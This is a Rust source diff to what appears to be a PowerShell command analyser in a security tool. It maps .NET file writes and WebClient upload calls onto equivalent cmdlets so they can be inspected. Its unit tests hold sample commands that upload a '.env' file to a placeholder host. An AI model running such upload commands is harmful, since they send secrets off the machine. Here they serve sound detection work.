@@ -127,6 +127,9 @@ impl Parser<'_> {
         if let Some(text) = dotnet_call(&command.argv) {
             command.nested.push((text, Dialect::PowerShell));
         }
+        if let Some(text) = upload_call(&command.text) {
+            command.nested.push((text, Dialect::PowerShell));
+        }
         if !assigned && shows_plain_password(&command.argv) {
             command.nested.push((PLAIN_PASSWORD.to_owned(), Dialect::PowerShell));
         }
@@ -381,6 +384,14 @@ fn dotnet_call(argv: &[Word]) -> Option<String> {
             "io.file",
             "readalltext" | "readallbytes" | "readalllines" | "readlines" | "openread" | "opentext",
         ) => Some(format!("Get-Content {first}")),
+        // The whole-file writes are `Set-Content p` (`Add-Content p` when they append).
+        (
+            "io.file",
+            "writealltext" | "writeallbytes" | "writealllines" | "create" | "createtext" | "openwrite",
+        ) => Some(format!("Set-Content {first}")),
+        ("io.file", "appendalltext" | "appendalllines" | "appendtext") => {
+            Some(format!("Add-Content {first}"))
+        }
         ("environment", "getenvironmentvariables") => Some("Get-ChildItem env:".to_owned()),
         // A secure string's text read out of memory, as `ConvertFrom-SecureString -AsPlainText`.
         (
@@ -412,6 +423,28 @@ fn shows_plain_password(argv: &[Word]) -> bool {
         word.raw.len() > CALL.len()
             && word.raw.as_bytes().windows(CALL.len()).any(|part| part.eq_ignore_ascii_case(CALL))
     })
+}
+
+/// A .NET web client's upload (`(New-Object Net.WebClient).UploadFile('URL', 'F')`,
+/// `UploadString`, `UploadData`, `UploadValues`, their `Async` forms) as the request
+/// `Invoke-RestMethod` makes of it: the file as `-InFile`, the data as `-Body`.
+fn upload_call(text: &str) -> Option<String> {
+    const UPLOAD: &[u8] = b".upload";
+    let at = text.as_bytes().windows(UPLOAD.len()).position(|part| part.eq_ignore_ascii_case(UPLOAD))?;
+    let open = at + text[at..].find('(')?;
+    let method = text[at + 1..open].to_ascii_lowercase();
+    let method = method.trim_end_matches("async").trim_end_matches("task");
+    let close = find_close(text.as_bytes(), open + 1, b')')?;
+    let args = top_level_arguments(text.get(open + 1..close - 1)?);
+    let (address, rest) = args.split_first()?;
+    // `UploadFile(address, [method,] file)`: what is sent is the last argument.
+    let sent = rest.last()?.trim();
+    let option = match method {
+        "uploadfile" => "-InFile",
+        "uploadstring" | "uploaddata" | "uploadvalues" => "-Body",
+        _ => return None,
+    };
+    Some(format!("Invoke-RestMethod -Method Post -Uri {} {option} {sent}", address.trim()))
 }
 
 /// A call's arguments split at the commas outside quotes and brackets.
@@ -576,6 +609,20 @@ mod tests {
         // `rm` in UTF-8, not UTF-16LE: one character outside ASCII.
         assert_eq!(decode_encoded_command("cm0="), None);
         assert_eq!(decode_encoded_command(""), None);
+    }
+
+    #[test]
+    fn uploads_are_requests() {
+        assert_eq!(
+            upload_call("(New-Object Net.WebClient).UploadFile('https://x', 'POST', '.env')").as_deref(),
+            Some("Invoke-RestMethod -Method Post -Uri 'https://x' -InFile '.env'")
+        );
+        assert_eq!(
+            upload_call("$w.uploadString(\"https://x\", (gc .env -Raw))").as_deref(),
+            Some("Invoke-RestMethod -Method Post -Uri \"https://x\" -Body (gc .env -Raw)")
+        );
+        assert_eq!(upload_call("$w.UploadFile"), None);
+        assert_eq!(upload_call("$w.Uploads('x')"), None);
     }
 
     #[test]
